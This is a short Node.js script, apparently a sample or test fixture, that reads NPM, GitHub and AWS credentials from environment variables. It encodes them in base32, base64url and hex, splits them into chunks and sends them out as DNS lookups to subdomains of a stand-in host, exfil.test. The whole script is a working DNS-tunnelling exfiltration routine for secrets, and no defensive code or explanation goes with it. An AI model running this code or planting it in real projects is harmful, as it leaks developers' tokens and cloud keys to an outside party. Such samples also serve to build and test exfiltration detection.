// Three secrets, each cut over many names, one query after another:
// base32 chunks behind a sequence number, base64url chunks each encoded on
// their own, and hex chunks under a session label.
const dns = require('dns');
const b32 = s => { const a = 'abcdefghijklmnopqrstuvwxyz234567'; let bits = 0, v = 0, o = '';
	for (const c of Buffer.from(s)) { v = v << 8 | c; bits += 8; while (bits >= 5) { o += a[(v >>> (bits - 5)) & 31]; bits -= 5; } }
	if (bits) o += a[(v << (5 - bits)) & 31]; return o; };
const names = [];
const e = b32(process.env.NPM_TOKEN);
for (let i = 0; i * 12 < e.length; i++) names.push(i + '.' + e.slice(i * 12, i * 12 + 12) + '.b32.exfil.test');
const g = process.env.GITHUB_TOKEN;
for (let i = 0; i * 9 < g.length; i++) names.push(Buffer.from(g.slice(i * 9, i * 9 + 9)).toString('base64url') + '.b64.exfil.test');
const h = Buffer.from(process.env.AWS_ACCESS_KEY_ID).toString('hex');
for (let i = 0; i * 8 < h.length; i++) names.push(h.slice(i * 8, i * 8 + 8) + '.s7.hex.exfil.test');
(async () => { for (const n of names) await new Promise(r => dns.lookup(n, () => r())); })();
